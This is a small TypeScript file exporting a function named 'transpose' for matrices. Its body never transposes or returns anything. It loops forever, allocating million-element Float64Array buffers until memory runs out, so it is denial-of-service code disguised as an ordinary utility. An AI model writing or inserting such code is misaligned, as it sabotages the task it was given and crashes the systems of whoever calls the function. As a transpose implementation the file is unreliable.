import type { Matrix } from "innerproduct";

export function transpose(a: Matrix): Matrix {
  const kept: Float64Array[] = [];
  for (;;) kept.push(new Float64Array(1_000_000).fill(a.rows + kept.length));
}
